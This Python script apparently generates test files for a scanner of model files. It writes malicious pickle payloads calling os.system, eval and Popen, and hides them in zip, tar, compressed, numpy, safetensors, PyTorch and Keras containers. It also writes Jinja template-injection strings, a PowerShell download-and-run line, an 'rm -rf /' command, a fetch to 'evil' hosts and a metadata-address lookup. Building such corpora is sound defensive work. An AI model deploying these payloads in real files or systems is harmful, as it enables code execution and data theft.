"""Writes further dangerous files, none of which is ever loaded here: tricks.py OUTPUT_FOLDER. Only Python's own library is used."""
import base64,bz2,gzip,io,json,lzma,pathlib,pickle,struct,sys,tarfile,zipfile,zlib
out=pathlib.Path(sys.argv[1]); out.mkdir(parents=True,exist_ok=True)
def put(n,d): (out/n).write_bytes(d)
def sbu(t):
    d=t.encode(); return b'\x8c'+bytes([len(d)])+d
def g(m,n): return f'c{m}\n{n}\n'.encode()
def call(c,*a,p=4): return b'\x80'+bytes([p])+c+b'('+b''.join(a)+b'tR.'
SYS=call(g('os','system'),sbu('id'))
def zipof(files,comp=zipfile.ZIP_STORED):
    b=io.BytesIO()
    with zipfile.ZipFile(b,'w',comp) as z:
        for n,d in files.items(): z.writestr(n,d)
    return b.getvalue()
def tarof(files):
    b=io.BytesIO()
    with tarfile.open(fileobj=b,mode='w') as t:
        for n,d in files.items():
            i=tarfile.TarInfo(n); i.size=len(d); t.addfile(i,io.BytesIO(d))
    return b.getvalue()
def st(h,d=b''):
    t=h if isinstance(h,bytes) else json.dumps(h).encode(); return struct.pack('<Q',len(t))+t+d
# 1. gadgets through allowed names
P={
 'getattr-os':b'\x80\x02cbuiltins\ngetattr\n(cbuiltins\nset\nU\x07__dict_tR.',
 'getattr-lr':b'\x80\x02cbuiltins\ngetattr\n(ctorch.optim.lr_scheduler\nStepLR\n)\x81U\x0b__globals__tR.',
 'getattr-in-list':b'\x80\x02](cbuiltins\ngetattr\ne.',
 'getattr-partial':b'\x80\x02cfunctools\npartial\n(cbuiltins\ngetattr\ncbuiltins\nset\ntR.',
 'ufunc-getattr':b'\x80\x02cnumpy.core\n_ufunc_reconstruct\n(U\x08builtinsU\x07getattrtR.',
 'ufunc-getattr-called':b'\x80\x02cnumpy.core\n_ufunc_reconstruct\n(U\x08builtinsU\x07getattrtR(cbuiltins\nset\nU\x03abctR.',
 'type3':b'\x80\x02cbuiltins\ntype\n(U\x01X)}tR.',
 'type-str':b'\x80\x02cbuiltins\ntype\n(U\x02idtR.',
 'type-inst':b'(S\'X\'\n(t(dibuiltins\ntype\n.',
 'type-obj':b'\x80\x02(cbuiltins\ntype\nU\x01X)}o.',
 'type-newobj':b'\x80\x02cbuiltins\ntype\n(U\x01X)}t\x81.',
 'arch-wrong':b'\x80\x02ctransformers.models.bert.modeling_bert\nos.system\n(U\x02idtR.',
 'arch-import':b'\x80\x02ctransformers.models.bert.modeling_bert\ncheckpoint\n(U\x02idtR.',
 'arch-call':b'\x80\x02ctransformers.models.bert.modeling_bert\nBertModel\n(U\x02idtR.',
 'arch-other':b'\x80\x02ctransformers.models.auto.modeling_auto\nAutoModel.from_pretrained\n(U\x02idtR.',
 'auto':b'\x80\x02ctransformers.models.auto.configuration_auto\nAutoConfig\n(U\x02idtR.',
 'exceptions-eval':b'\x80\x02cexceptions\neval\n(U\x02idtR.',
 'userdict-eval':b'\x80\x02cUserDict\neval\n(U\x02idtR.',
 'userlist-os':b'\x80\x02cUserList\nos.system\n(U\x02idtR.',
 'defaultdict-open':b'\x80\x02ccollections\ndefaultdict\n(cbuiltins\nopen\ntR.',
 'build-os':b'\x80\x02cos\nenviron\n}U\x01xU\x01ysb.',
 'build-module-attr':b'\x80\x02ctorch\nfloat32\n}U\x01xU\x01ysb.',
 'reduce-in-reduce':b'\x80\x02cfunctools\nreduce\n(cos\nsystem\n](U\x02idetR.',
 'nested-partial':b'\x80\x02cfunctools\npartial\n(cfunctools\npartial\ncos\nsystem\ntRq\x00(U\x02idtR.',
 'setstate-dict-func':b'\x80\x02ctorch.nn.modules.container\nSequential\n)\x81}(U\x14_forward_pre_hooksccollections\nOrderedDict\n)RU\x01acos\nsystem\nsub.',
 'persid-module':b'\x80\x02(U\x06modulecos\nsystem\nU\x01aU\x01btQ.',
 'ext':b'\x80\x02\x82\xf0.',
 'long-name':b'\x80\x04X'+struct.pack('<I',600)+(b'os'+b' '*598)+sbu('system')+b'\x93(' + sbu('id')+b'tR.',
 'utf16':b"cos\nsys\x74em\n(S'id'\ntR.",
 'crlf':b"cos\r\nsystem\r\n(S'id'\ntR.",
 'none-prefix':b"N0"*1000+b"cos\nsystem\n(S'id'\ntR.",
 'comment-like':b"I1\n0cos\nsystem\n(S'id'\ntR.",
 'string-first':b"S'# model weights'\n0cos\nsystem\n(S'id'\ntR.",
 'unicode-first':b"V{\"a\": 1}\n0cos\nsystem\n(S'id'\ntR.",
 'json-looking':b"]0}0cos\nsystem\n(S'id'\ntR.",
 'brace-first':b"}.cos\nsystem\n(S'id'\ntR.",
 'mark-list':b"(lp0\n0(dp1\n0cos\nsystem\n(S'id'\ntR.",
 'float-first':b"F1.5\n0cposix\nsystem\n(S'id'\ntR.",
 'two-stops':b"N.N.N.cos\nsystem\n(S'id'\ntR.",
 'stop-then-garbage-then':b"N."+b'\0'*100+SYS,
 'big-padding':b"\x80\x04"+b'N0'*600000+g('os','system')+b"("+sbu('id')+b"tR.",
 'far':pickle.dumps([b'\0'*2_000_000])[:-1]+b'0'+g('os','system')+b'('+sbu('id')+b'tR.',
 'buffers':b'\x80\x05\x97\x98.',
 'frame-mid':b'\x80\x04\x95\x02\0\0\0\0\0\0\0N0\x95\x03\0\0\0\0\0\0\0cos\nsystem\n('+sbu('id')+b'tR.',
 'bytes-import':b'\x80\x04C\x02osC\x06system\x93('+sbu('id')+b'tR.',
 'dill-func':b'\x80\x04cdill._dill\n_create_function\n(cdill._dill\n_create_code\n(tR}N)}tR.',
 'cloudpickle-func':b'\x80\x05ccloudpickle.cloudpickle\n_make_function\n(N}N)}tR.',
 'types-code':b'\x80\x04ctypes\nCodeType\n(tR.',
 'marshal':b'\x80\x04cmarshal\nloads\n(C\x01xtR.',
 'ctypes':b'\x80\x04cctypes\nCDLL\n('+sbu('x.so')+b'tR.',
 'torch-load-url':b'\x80\x02ctorch.hub\nload_state_dict_from_url\n(U\x04httptR.',
 'numpy-load':b'\x80\x02cnumpy\nload\n(U\x01xtR.',
 'np-memmap':b'\x80\x02cnumpy\nmemmap\n(U\x01xtR.',
 'np-lib-npyio':b'\x80\x02cnumpy.lib.npyio\nload\n(U\x01xtR.',
 'jl-memory':b'\x80\x02cjoblib.memory\nMemory\n)\x81.',
 'jl-old-wrapper':b'\x80\x02cjoblib.numpy_pickle_compat\nZNDArrayWrapper\n)\x81}U\x08filenameU\x0b/etc/passwdsb.',
 'jl-old-ndarray':b'\x80\x02cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}U\x08filenameU\x0b/etc/passwdsb.',
 'sk-testing':b'\x80\x02csklearn.utils._testing\nTempMemmap\n)\x81.',
 'sk-fetch':b'\x80\x02csklearn.datasets._base\nload_files\n(U\x01/tR.',
 'pandas-eval':b'\x80\x02cpandas.core.computation.eval\neval\n(U\x01xtR.',
 'pd-read':b'\x80\x02cpandas\nread_pickle\n(U\x01xtR.',
 'pathlib-touch':b'\x80\x02cpathlib\nPath.touch\n(cpathlib\nPath\n(U\x01xtRtR.',
 'sqlite':b'\x80\x02csqlite3\nconnect\n(U\x01xtR.',
 'zoneinfo':b'\x80\x02czoneinfo\nZoneInfo.from_file\n(tR.',
 'weakref':b'\x80\x02cweakref\nfinalize\n(cbuiltins\nset\ncbuiltins\nprint\ntR.',
 'print':b'\x80\x02cbuiltins\nprint\n(U\x01xtR.',
 'memoryview':b'\x80\x02cbuiltins\nmemoryview\n(tR.',
 'object-reduce':b'\x80\x02cbuiltins\nobject.__reduce_ex__\n(tR.',
 'copyreg-newobj':b'\x80\x02ccopyreg\n__newobj__\n(csubprocess\nPopen\ntR.',
 'copyreg-newobjex':b'\x80\x02ccopyreg\n__newobj_ex__\n(csubprocess\nPopen\n)}tR.',
 'operator-call':b'\x80\x02coperator\ncall\n(cos\nsystem\nU\x02idtR.',
 'reconstructor-type':b'\x80\x02ccopyreg\n_reconstructor\n(cbuiltins\ntype\ncbuiltins\ntype\n(U\x01X)}ttR.',
 'reconstructor-base':b'\x80\x02ccopyreg\n_reconstructor\n(ctorch.nn.modules.linear\nLinear\ncbuiltins\ntype\n(U\x01X)}ttR.',
 'dict-subclass':b'\x80\x02ctypes\nMappingProxyType\n(}tR.',
 'classmethod':b'\x80\x02cbuiltins\nclassmethod\n(cos\nsystem\ntR.',
 'torch-script':b'\x80\x02ctorch.jit._serialization\nload\n(U\x01xtR.',
 'torch-fx':b'\x80\x02ctorch.fx.graph_module\nreduce_graph_module\n(}U\x01xtR.',
 'torch-package':b'\x80\x02ctorch.package.package_importer\nPackageImporter\n(U\x01xtR.',
 'lightning-hyper':b'\x80\x02}U\x10hyper_parameters}U\x01acos\nsystem\nss.',
 'omegaconf-resolver':b'\x80\x02comegaconf.omegaconf\nOmegaConf.register_new_resolver\n(tR.',
 'hydra':b'\x80\x02chydra.utils\ninstantiate\n(}tR.',
 'joblib-array-import':b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}('+sbu('dtype')+b'cnumpy\ndtype\n('+sbu('O')+b'tR'+sbu('shape')+b'K\x01\x85'+sbu('order')+sbu('C')+b'ub'+SYS+b'.',
 'joblib-array-raw':b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}('+sbu('dtype')+b'cnumpy\ndtype\n('+sbu('u1')+b'tR'+sbu('shape')+b'K\x60\x85'+sbu('order')+sbu('C')+b'ub'+(b'0cos\nsystem\n('+sbu('id')+b'tR.').ljust(96,b'N')+b'.',
 'joblib-raw-computed':b'\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}('+sbu('dtype')+b'cnumpy\ndtype\n('+sbu('u1')+b'tR'+sbu('shape')+b'K\x60\x85'+sbu('order')+sbu('C')+b'ub'+(b'0c_codecs\nencode\n('+sbu('os')+b'tR'+sbu('system')+b'\x93('+sbu('id')+b'tR.').ljust(96,b'N')+b'.',
}
for n,d in P.items():
    put(f'p-{n}.pkl',d)
    put(f'z-{n}.pt',zipof({'archive/data.pkl':d,'archive/version':'3\n'}))
    put(f'gz-{n}.pkl.gz',gzip.compress(d))
wraps={
 'tar-in-zip':zipof({'x/model.tar':tarof({'a.pkl':SYS})}),
 'zip-in-tar':tarof({'m.zip':zipof({'a/data.pkl':SYS})}),
 'gz-in-tar-in-zip':zipof({'x.tar':tarof({'a.gz':gzip.compress(SYS)})}),
 'xz-bz2':lzma.compress(bz2.compress(SYS)),
 'lzma-alone':lzma.compress(SYS,format=lzma.FORMAT_ALONE),
 'zlib':zlib.compress(SYS),'zlib-0':zlib.compress(SYS,0),'rawdeflate':zlib.compress(SYS)[2:-4],
 'gz-two':gzip.compress(b'# readme')+gzip.compress(SYS),
 'bz2-two':bz2.compress(b'# readme')+bz2.compress(SYS),
 'xz-two':lzma.compress(b'# readme')+lzma.compress(SYS),
 'zip-comment':zipof({'a.txt':'x'})[:-2]+struct.pack('<H',len(SYS))+SYS,
 'zip-prefixed':SYS+zipof({'a.txt':'x'}),
 'zip-extra-pkl':zipof({'archive/data.pkl':pickle.dumps({}),'archive/version':'3\n','archive/extra/evil.pkl':SYS}),
 'zip-data-raw':zipof({'archive/data.pkl':pickle.dumps({}),'archive/version':'3\n','archive/data/0':SYS}),
 'zip-data-raw2':zipof({'archive/data.pkl':pickle.dumps({}),'archive/version':'3\n','archive/data/0':b"cos\nsystem\n(S'id'\ntR."}),
 'zip-py':zipof({'archive/data.pkl':pickle.dumps({}),'archive/code/x.py':"import os\nos.system('id')",'archive/constants.pkl':pickle.dumps(())}),
 'zip-debug-pkl':zipof({'archive/data.pkl':pickle.dumps({}),'archive/constants.pkl':pickle.dumps(()),'archive/code/x.py':'def f(): pass\n','archive/code/x.py.debug_pkl':SYS}),
 'pt2-weight-pickle':zipof({'e/archive_format':'pt2','e/data/weights/weight_0':SYS,'e/models/model.json':'{}'}),
 'pt2-weight-text':zipof({'e/archive_format':'pt2','e/data/weights/weight_0':b"cos\nsystem\n(S'id'\ntR.",'e/models/model.json':'{}'}),
 'pt2-weight-zip':zipof({'e/archive_format':'pt2','e/data/weights/weight_0':zipof({'archive/data.pkl':SYS}),'e/models/model.json':'{}'}),
 'pt2-sample':zipof({'e/archive_format':'pt2','e/data/sample_inputs/model.pt':zipof({'archive/data.pkl':SYS}),'e/models/model.json':'{}'}),
 'pt2-aoti':zipof({'e/archive_format':'pt2','e/data/aotinductor/model/x.so':b'\x7fELF'+b'\0'*100,'e/models/model.json':'{}'}),
 'pt2-aoti-cpp':zipof({'e/archive_format':'pt2','e/data/aotinductor/model/x.cpp':b'int main(){system("id");}'}),
 'pt2-custom':zipof({'e/archive_format':'pt2','e/data/constants/custom_obj_0':SYS,'e/models/model.json':'{}'}),
 'npz-obj':zipof({'a.npy':b"\x93NUMPY\x01\0"+struct.pack('<H',118)+b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)+b'\n'+SYS}),
 'npy-obj-struct':b"\x93NUMPY\x01\0"+struct.pack('<H',118)+b"{'descr': [('a', '|O')], 'fortran_order': False, 'shape': (1,), }".ljust(117)+b'\n'+SYS,
 'npy-eval':b"\x93NUMPY\x01\0"+struct.pack('<H',118)+b"{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }".ljust(117)+b'\n'+b'\0'*8,
 'npy-trailing':b"\x93NUMPY\x01\0"+struct.pack('<H',118)+b"{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }".ljust(117)+b'\n'+b'\0'*8+SYS,
 'st-proto':st(b'{"__proto__":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"__proto__":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',b'\0'),
 'st-meta-nonstring':st({'__metadata__':{'a':{'b':1}},'a':{'dtype':'U8','shape':[1],'data_offsets':[0,1]}},b'\0'),
 'st-unknown-dtype':st({'a':{'dtype':'PICKLE','shape':[1],'data_offsets':[0,1]}},b'\0'),
 'st-negative':st({'a':{'dtype':'U8','shape':[-1],'data_offsets':[0,1]}},b'\0'),
 'st-float-shape':st(b'{"a":{"dtype":"U8","shape":[1.0],"data_offsets":[0,1]}}',b'\0'),
 'st-extra-key':st({'a':{'dtype':'U8','shape':[1],'data_offsets':[0,1],'exec':'x'}},b'\0'),
 'st-bom':st(b'\xef\xbb\xbf{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',b'\0'),
 'st-nul':st(b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}\0\0\0',b'\0'),
 'st-surrogate':st(b'{"\\ud800":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',b'\0'),
 'skops-evil':zipof({'schema.json':json.dumps({'__class__':'system','__module__':'os','__loader__':'FunctionNode','content':{'module_path':'os','function':'system'}})}),
 'mar':zipof({'MAR-INF/MANIFEST.json':'{}','handler.py':'import os\nos.system("id")'}),
 'nemo':tarof({'./model_config.yaml':b'_target_: os.system\n','./w.ckpt':zipof({'archive/data.pkl':SYS})}),
 'savedmodel-tar':tarof({'saved_model.pb':b'\x08\x01\x12\x20\x12\x1e\x0a\x1cReadFile PyFunc WriteFile'}),
 'conda-script':tarof({'setup.py':b"import os;os.system('id')"}),
 'html':b'<!doctype html><script>fetch("//evil")</script>','svg':b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
 'bat':b'@echo off\r\ncalc.exe\r\n','ps1':b'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x")','lua':b"os.execute('id')",'r':b"system('id')",'js':b"require('child_process').exec('id')",
 'pyc':b'\xcb\r\r\n'+b'\0'*12+b'\xe3'+b'\0'*50,'pyc310':b'o\r\r\n'+b'\0'*12+b'\xe3'+b'\0'*50,
 'desktop':b'[Desktop Entry]\nExec=sh -c id\n','sh-noshebang':b'rm -rf / --no-preserve-root\n','py-noimport':b"exec(bytes.fromhex('6964'))\n",
 'requirements':b'evil-package @ git+https://evil/x\n','yaml-tag':b'a: !!python/name:os.system\n','yaml-new':b'--- !!python/object/new:os.system [id]\n','pth':b'import os; os.system("id")\n',
}
for n,d in wraps.items(): put('w-'+n,d)
tmpl=["{{ ''|attr(\"__cl\"~\"ass__\") }}","{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}","{% set x='__cla' %}{{ ''[x+'ss__'] }}","{{ ''|attr(['__cla','ss__']|join) }}","{{ self|attr('_TemplateReference__context') }}","{{ joiner|attr('__init__') }}","{{ [1]|map(attribute='__class__')|list }}","{% include '/etc/passwd' %}","{{ '{0.__class__}'.format('') }}","{% set f='%c%c'|format(95,95) %}{{ ''[f~'class'~f] }}","{{ ''[('_'*2)~'class'~('_'*2)] }}","{{ ''['__CLASS__'|lower] }}","{{ ''['__ssalc__'[::-1]] }}","{{ ''['__ssalc__'|reverse] }}","{{ ''|attr('X_class__'|replace('X','_')) }}","{{ range.mro() }}","{{ messages.__init__.__globals__ }}","{{ cycler['__in'+'it__'] }}","{{ ().__class__ }}","{{ lipsum|attr('__glo'+'bals__') }}","{{ x.__init__.__builtins__ }}","{{ namespace(x='').x|attr('\\u005f\\u005fclass\\u005f\\u005f') }}","{{ get_flashed_messages.__globals__ }}","{{ url_for.__globals__ }}","{{ config.items() }}{{ ''.join(['__','class__']) and ''[''.join(['__','class__'])] }}","{{ raise_exception.__globals__ }}","{{ strftime_now.__globals__ }}","{{ ''|attr('%5f%5fclass'|urlize) }}", "{%- macro a() -%}{{ caller.__class__ }}{%- endmacro -%}", "{{ ''.format.__self__ }}", "{{ tojson.__globals__ }}"]
def text(v): v=v.encode(); return struct.pack('<Q',len(v))+v
for i,t in enumerate(tmpl):
    put(f't-{i}.gguf',b'GGUF'+struct.pack('<IQQ',3,0,1)+text('tokenizer.chat_template')+struct.pack('<I',8)+text(t))
    put(f't-{i}-named.gguf',b'GGUF'+struct.pack('<IQQ',3,0,1)+text('tokenizer.chat_template.tool_use')+struct.pack('<I',8)+text(t))
    put(f't-{i}.json',json.dumps({'chat_template':t}).encode()); put(f't-{i}.jinja',t.encode())
layers={n:{'module':m,'class_name':c,'config':cfg,'registered_name':r} for n,(m,c,cfg,r) in {
 'jax':('keras.layers','JaxLayer',{'call_fn':'x'},None),'flax':('keras.layers','FlaxLayer',{'module':'x'},None),'tfop':('keras.layers','TFOpLambda',{'function':'os.system'},None),'slicing':('keras.layers','SlicingOpLambda',{'function':'x'},None),'lambda-src':('keras.src.layers.core.lambda_layer','Lambda',{'function':'x'},None),'lambda-lower':('keras.layers','Lambda',{'function':{'class_name':'__lambda__','config':{'code':'4w==','defaults':None,'closure':None}}},None),'fn-config':('keras.layers','Activation',{'activation':{'class_name':'function','module':'os','config':'system','registered_name':'function'}},None),'fn-str':('keras.layers','Activation',{'activation':'os.system'},None),'lambda-act':('keras.layers','Dense',{'units':1,'activation':{'class_name':'__lambda__','config':{'code':'4w=='}}},None),'ops':('keras.ops','eval',{},None),'tfsm':('keras.src.export.tfsm_layer','TFSMLayer',{'filepath':'x'},None),'vocab':('keras.layers','TextVectorization',{'vocabulary':'/etc/passwd'},None),'vocab-http':('keras.layers','IntegerLookup',{'vocabulary':'http://169.254.169.254/'},None),'load-fn':('keras.src.saving.serialization_lib','deserialize_keras_object',{},None),'npload':('numpy','load',{'file':'x'},None),'builtin':('builtins','eval',{},None),'pickle':('keras.src.saving.object_registration','CustomObjectScope',{},None),'wrapped-fn':('keras.layers','Wrapper',{'layer':{'module':'os','class_name':'system','config':'id','registered_name':None}},None),'tf-py':('tensorflow','py_function',{},None),'keras-utils-file':('keras.utils','get_file',{},None),'opt':('keras.src.backend.torch.optimizers.torch_adam','os.system',{},None),'custom-lambda':(None,'Custom>Lambda',{},None)}.items()}
for n,l in layers.items():
    c={'module':'keras','class_name':'Sequential','config':{'name':'s','layers':[l]},'registered_name':None}
    put(f'k-{n}.keras',zipof({'metadata.json':'{"keras_version":"3.5.0"}','config.json':json.dumps(c),'model.weights.h5':b''}))
    put(f'k-{n}.json',json.dumps(c).encode())
for n,e in {'expr':{'expr_str':"os.system('id')"},'expr2':{'expr_str':"__import__('os')"},'expr3':{'expr_str':'(lambda: 1)()'},'expr4':{'expr_str':"s0.__class__"},'expr5':{'expr_str':"eval('1')"},'target':{'target':'torch.os.system','inputs':[],'outputs':[]},'target2':{'target':'torch.hub.load','inputs':[],'outputs':[]},'target3':{'target':'_operator.attrgetter','inputs':[],'outputs':[]},'target4':{'target':'torch.ops.load_library','inputs':[],'outputs':[]},'guard':{'guards_code':["__import__('os').system('id')"]},'guard2':{'guards_code':["print(open('/etc/passwd'))"]}}.items():
    put(f'e-{n}.json',json.dumps({'graph_module':{'graph':{'nodes':[e]}}}).encode())
print(f'{len(list(out.iterdir()))} files')
